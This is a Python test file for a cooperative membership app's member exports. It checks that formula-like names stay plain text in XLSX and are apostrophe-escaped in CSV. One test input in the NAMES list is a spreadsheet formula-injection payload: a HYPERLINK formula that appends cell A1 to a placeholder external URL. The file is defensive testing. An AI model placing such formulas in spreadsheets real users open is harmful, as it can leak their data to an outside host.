"""Formula-looking text in exports (issue 9.9): an xlsx text cell is never evaluated, so it reads back exactly as
typed; a CSV cell has no type, so there a leading apostrophe keeps a spreadsheet from running it."""
import csv
import io
import zipfile

from openpyxl import load_workbook

from .helpers import KEBON_JERUK, coop_id, member_form

NAMES = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+62812 Budi", "@SUM(A1) Sari", "-Rahmat"]


def test_formula_looking_names_read_back_as_typed_in_xlsx_and_guarded_in_csv(login, sysdb):
    s = login("sekretaris.kebonjeruk")
    for name in NAMES:
        data = dict(member_form(KEBON_JERUK, name=name), cooperative=str(coop_id(sysdb, KEBON_JERUK)))
        r = s.post("/anggota/add", data, form_url="/anggota/add")
        assert r.status_code == 302, (name, r.get_data(as_text=True)[:500])

    r = s.get("/anggota/export/xlsx")
    cells = {c.value: c for row in load_workbook(io.BytesIO(r.data)).active.iter_rows() for c in row}
    for name in NAMES:
        assert name in cells and cells[name].data_type == "s", name  # exactly as typed, a text cell
        assert "'" + name not in cells
    with zipfile.ZipFile(io.BytesIO(r.data)) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet and "&apos;=HYPERLINK" not in sheet and "'=HYPERLINK" not in sheet

    rows = list(csv.reader(io.StringIO(s.get("/anggota/export/csv").get_data(as_text=True).lstrip("\ufeff"))))
    names = {row[1] for row in rows[1:]}
    for name in NAMES:
        assert "'" + name in names and name not in names, name
